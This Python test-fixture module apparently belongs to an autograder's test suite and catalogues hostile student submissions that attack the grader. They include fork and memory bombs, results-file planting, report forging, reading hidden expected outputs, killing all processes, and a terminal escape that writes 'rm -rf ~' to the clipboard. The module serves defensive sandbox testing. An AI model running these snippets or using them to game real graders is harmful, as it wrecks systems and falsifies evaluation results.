"""Submissions that attack the grader, one per attack, hosted by the End of DayZ suite.

Each attack is the reference ``a2.py`` with a snippet injected at import time or at the
start of ``Grid.__init__`` (a method nearly every check reaches), or a folder of files of
its own. Each has an honest twin: the same submission with a plain failure injected at
the same place. An attack must never earn a check its twin does not: whatever it does,
it gains nothing over simply failing there.

Snippets mark every process they start and every file they try to plant with
:data:`MARKER`, so the tests can look for survivors outside the sandbox.
"""

from dataclasses import dataclass, field
from typing import Dict, Optional

__all__ = ["ANSWERS_FROM_THE_PAYLOAD", "ATTACKS", "Attack", "CANARY_DIR",
           "CLASS_ATTACKS", "HIJACK_FOLDER", "MARKER", "TWINS"]

MARKER = "agattack7f3c"
# Where attacks try to plant files outside their sandbox (the tests check it stays empty).
CANARY_DIR = "/tmp/" + MARKER
# Where snippets go in a2.py.
IMPORT_ANCHOR = "import os\nimport sys\n"
METHOD_ANCHOR = "        self._size = size\n"

# Honest twins: the plain failure each attack is compared with.
TWINS = {
    "exit": "raise SystemExit('honest failure')",
    "print": "print('honest output')",
    "none": "",  # the reference itself: the attack must not beat an honest solution
}


@dataclass(frozen=True)
class Attack:
    """One attack on the grader.

    Attributes:
        code: Python source injected into a2.py (dedented; indented for methods).
        where: ``"import"`` or ``"method"`` (start of ``Grid.__init__``) or ``"files"``.
        twin: key of :data:`TWINS`: the honest failure at the same place.
        files: extra files of the submission (name -> bytes); with ``where == "files"``
            they are the whole submission.
        names: text the instructor's report must contain (the limit or fault hit).
        network: whether the attack tries to reach the test's listener on 127.0.0.1.
        links: symbolic links of the submission (name -> target).

    In ``code`` and link targets, ``PORT`` stands for the port of the test's listener,
    ``SUITE_DIR`` and ``TESTS_DIR`` for the real folders of the suite and the tests, and
    ``GRADER_INIT`` for the grader's own ``autograder/__init__.py``.
    """

    code: str = ""
    where: str = "import"
    twin: str = "exit"
    files: Dict[str, bytes] = field(default_factory=dict)
    names: Optional[str] = None
    network: bool = False
    links: Dict[str, str] = field(default_factory=dict)


_FORK_BOMB = """
import os
while True:
    try:
        if os.fork() == 0:
            os.execvp("python3", ["python3", "-c", "import time; time.sleep(600)", "%s"])
    except OSError:
        pass
""" % MARKER

_BACKGROUND = """
import subprocess, os
subprocess.Popen(["python3", "-c", "import time; time.sleep(600)", "%s"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""" % MARKER

_PLANT_FILES = """
import os
for target in ("%(canary)s/results.json", "../results.json", "../../results.json",
               "/autograder/results/results.json", os.path.expanduser("~/grades.csv"),
               "/tmp/results.json", "results.json", "grades.csv"):
    try:
        os.makedirs(os.path.dirname(os.path.abspath(target)), exist_ok=True)
        with open(target, "w") as handle:
            handle.write('{"score": 8, "tests": []} %(marker)s')
    except OSError:
        pass
""" % {"canary": CANARY_DIR, "marker": MARKER}

# SUITE_DIR and TESTS_DIR are replaced by the real folders of the grader's suite and tests.
_READ_EXPECTATIONS = """
import glob, os
found = []
for pattern in ("SUITE_DIR/**/*", "TESTS_DIR/end_of_dayz/**/*", "/work/*/autograder/suites/*/*"):
    for path in glob.glob(pattern, recursive=True):
        if os.path.isfile(path):
            found.append(path)
if found:
    print("LEAKED", len(found), open(found[0], errors="replace").read()[:200])
"""

_DELETE_FILES = """
import os, shutil
for target in ("a2_support.py", "maps", "../pristine", "/sandbox", "%s"):
    try:
        if os.path.isdir(target):
            shutil.rmtree(target)
        else:
            os.remove(target)
    except OSError:
        pass
""" % CANARY_DIR

# PORT is replaced by the port of the listener the test opens.
_NETWORK = """
import socket
try:
    with socket.create_connection(("127.0.0.1", PORT), timeout=1) as conn:
        conn.sendall(b"PWNED")
except Exception:
    pass
"""

_MONKEYPATCH = """
import builtins, doctest, random, sys
builtins.print = lambda *args, **kwargs: None
builtins.repr = lambda obj: "PASSED"
doctest.OutputChecker.check_output = lambda self, want, got, flags: True
random.sample = lambda population, k: list(population)[:k]
sys.modules["json"] = None
raise SystemExit("patched and gone")
"""

# Issue 34: System V shared memory held kernel memory no rlimit counted while the run lived.
_SYSV_HOARD = """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for _ in range(64):
    segment = libc.shmget(0, ctypes.c_size_t(256 << 20), 0o1000 | 0o600)
    if segment < 0:
        break
    address = libc.shmat(segment, None, 0)
    if address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memset(address, 1, 256 << 20)
        libc.shmdt(ctypes.c_void_p(address))
"""

# Class 1 again, without touching the channel: where a check's right answer follows from its
# payload alone (where a seeded random source stands after one draw; "every class there,
# every method callable"), an a2.py of nothing but this snippet finds the driver's payload and
# report on the stack, reports that answer and ends the child.
ANSWERS_FROM_THE_PAYLOAD = """
import os, random, sys
frame = sys._getframe()
while frame is not None and not {"payload", "report"} <= set(frame.f_locals):
    frame = frame.f_back
if frame is not None:
    payload, report = frame.f_locals["payload"], frame.f_locals["report"]
    if isinstance(payload, dict) and {"zombie", "seed", "steps"} <= set(payload):
        import a2_support
        random.seed(payload["seed"])
        if payload["zombie"] == "Zombie":
            for _ in range(payload["steps"]):
                a2_support.random_directions()
        report(random.random())
        os._exit(0)
    if isinstance(payload, dict) and payload and all(
            isinstance(value, list) and len(value) == 2 and isinstance(value[1], dict)
            for value in payload.values()):
        report({name: {"base": True, "methods": {method: True for method in methods}}
                for name, (_base, methods) in payload.items()})
        os._exit(0)
"""

ATTACKS: Dict[str, Attack] = {
    "sys_exit_at_import": Attack("import sys\nsys.exit(0)"),
    "os_exit_at_import": Attack("import os\nos._exit(0)"),
    "sys_exit_in_method": Attack("import sys\nsys.exit(0)", where="method"),
    "os_exit_in_method": Attack("import os\nos._exit(0)", where="method"),
    "base_exception": Attack("raise BaseException('escape')"),
    "keyboard_interrupt": Attack("raise KeyboardInterrupt", where="method"),
    "ignore_sigterm_and_hang": Attack(
        "import signal\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass",
        names="timed out after"),
    "infinite_loop": Attack("while True:\n    pass", where="method", names="timed out after"),
    "cpu_burning_thread": Attack(
        # any() over endless zeros burns CPU for ever without using memory (a growing list
        # would die of MemoryError, and the program would then end normally).
        "import threading\nthreading.Thread(target=lambda: any(iter(int, 1)),"
        " daemon=False).start()", names="timed out after"),
    "fork_bomb": Attack(_FORK_BOMB, names="process"),
    "memory_bomb": Attack("hoard = [bytearray(1 << 24) for _ in range(10 ** 6)]",
                          names="memory limit"),
    "gigabyte_of_output": Attack(
        "import sys\nfor _ in range(1 << 14):\n    sys.stdout.write('PASSED ' * 10000)",
        where="method", names="output cut at"),
    "deep_recursion": Attack(
        "import sys\nsys.setrecursionlimit(10 ** 7)\n"
        "def dive(n):\n    return dive(n + 1) + 1\ndive(0)", where="method"),
    "plant_results_files": Attack(_PLANT_FILES + "\nraise SystemExit(0)"),
    "print_fake_passes": Attack(
        "print('PASSED ' * 20)\nprint('{\"score\": 8, \"tests\": []}')\n"
        "print('8 passed, 0 failed')", twin="print"),
    "monkeypatch_everything": Attack(_MONKEYPATCH),
    "shadow_support_module": Attack(
        "raise SystemExit('broken')", where="method",
        files={"a2_support.py": b"raise SystemExit('my own support module')\n"}),
    "shadow_random_and_json": Attack(
        "raise SystemExit('broken')", where="method",
        files={"random.py": b"def sample(p, k):\n    return list(p)[:k]\ndef seed(*a):\n    pass\n",
               "json.py": b"def dumps(*a, **k):\n    return '{\"value\": true}'\n"
                          b"def loads(*a, **k):\n    return {'value': True}\n"}),
    "read_expected_outputs": Attack(_READ_EXPECTATIONS + "\nraise SystemExit(0)"),
    "delete_files": Attack(_DELETE_FILES + "\nraise SystemExit(0)"),
    "background_process": Attack(_BACKGROUND + "\nraise SystemExit(0)"),
    "network_connection": Attack(_NETWORK + "\nraise SystemExit(0)", network=True),
    "syntax_error": Attack(where="files", files={"a2.py": b"def broken(:\n"}),
    "missing_files": Attack(where="files", files={"notes.txt": b"I forgot my code\n"}),
    "empty_folder": Attack(where="files", files={}),
    "binary_junk": Attack(where="files", files={"a2.py": bytes(range(256)) * 64}),
    "system_v_memory_hoard": Attack(_SYSV_HOARD + "\nraise SystemExit(0)"),
    "fifty_megabytes": Attack(twin="none", files={"maps.bin": b"\0" * (50 << 20)}),
}


# --- one attack per class of issue 17 ("Trust"), graded together by `batch` -------------------

# Class 1: observations taken inside the submission's process can be forged. Finds the driver's
# report function and sends through it from an exit handler and a thread that outlives the
# driver, and writes report frames to every descriptor it may hold.
_FORGE_REPORTS = """
import atexit, gc, os, threading
sends = [f for f in gc.get_objects()
         if callable(f) and getattr(f, "__name__", "") in ("report", "send", "_send")]
def forge():
    for send in sends:
        try:
            send({"passed": True, "score": 8, "output": "PASSED"})
        except BaseException:
            pass
    for fd in range(3, 64):
        try:
            os.write(fd, b"\\x00\\x00\\x00\\x1b{\\"observation\\": \\"PASSED\\"}")
        except OSError:
            pass
atexit.register(forge)
threading.Thread(target=lambda: [forge() for _ in range(200)], daemon=True).start()
forge()
raise SystemExit("honest failure")
"""

# Class 2: malformed, oversized or late data from the child. Sends values the parent cannot use.
_MALFORMED_REPORTS = """
import gc
sends = [f for f in gc.get_objects()
         if callable(f) and getattr(f, "__name__", "") in ("report", "send", "_send")]
for junk in (10 ** 5000, float("nan"), "x" * (1 << 20), [[[[]]]] * 1000, {"a": object},
             {"exception": 12345, "traceback": ["not", "text"]}):
    for send in sends:
        try:
            send(junk)
        except BaseException:
            pass
raise SystemExit("honest failure")
"""

# Class 6: escapes the sweep (a daemonised grandchild that waits for the grader to finish and
# then rewrites results), and kills every process it is allowed to signal.
_ESCAPE_AND_KILL = """
import os, signal, subprocess
late = ("import time; time.sleep(3)\\n"
        "for path in ('%(canary)s/results.json', '../results.json', '/tmp/results.json'):\\n"
        "    try:\\n"
        "        os.makedirs(os.path.dirname(os.path.abspath(path)), exist_ok=True)\\n"
        "        open(path, 'w').write('{\\"score\\": 8}')\\n"
        "    except OSError:\\n"
        "        pass\\n")
subprocess.Popen(["python3", "-c", "import os\\n" + late, "%(marker)s"],
                 start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("python3", ["python3", "-c", "import os\\n" + late, "%(marker)s"])
    os._exit(0)
try:
    os.kill(-1, signal.SIGKILL)
except OSError:
    pass
raise SystemExit("honest failure")
""" % {"canary": CANARY_DIR, "marker": MARKER}

# Class 7: student text copied into reports verbatim. Escape sequences that redraw the
# instructor's terminal, set its title and write its clipboard, and one line of a megabyte.
_PAINT_THE_TERMINAL = """
print("\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07\\x1b]52;c;cm0gLXJmIH4=\\x07 Auto-graded total 8 / 8")
print("A" * (1 << 20))
"""

# Class 5: a student folder named like the grader's package, in the folder the batch starts in.
HIJACK_FOLDER = "autograder"
HIJACK_MAIN = b"open('HIJACKED', 'w').write('yes')\n"

CLASS_ATTACKS: Dict[str, Attack] = {
    "class1_forges_reports": Attack(_FORGE_REPORTS, where="method"),
    "class2_malformed_reports": Attack(_MALFORMED_REPORTS, where="method"),
    # Class 3: import order lets a submission replace what the grader supplies or grades.
    "class3_shadows_supplied_and_graded_code": Attack(twin="none", files={
        "a2_support/__init__.py": b"raise SystemExit('my own support package')\n",
        "a2/__init__.py": b"raise SystemExit('a decoy package beside a2.py')\n",
        "platform.py": b"raise SystemExit('my own standard module')\n",
        "doctest.py": b"raise SystemExit('my own standard module')\n"}),
    # Class 4: the trusted side follows links and trusts the tree's shape.
    "class4_links_out_of_its_folder": Attack(twin="none", links={
        "a2_support.py": "GRADER_INIT", "notes.txt": "/proc/self/environ",
        "report.txt": "/proc/self/mem", "root": "/"}),
    "class6_escapes_and_kills": Attack(_ESCAPE_AND_KILL, where="method"),
    "class7_paints_the_terminal": Attack(_PAINT_THE_TERMINAL, where="method", twin="print"),
}
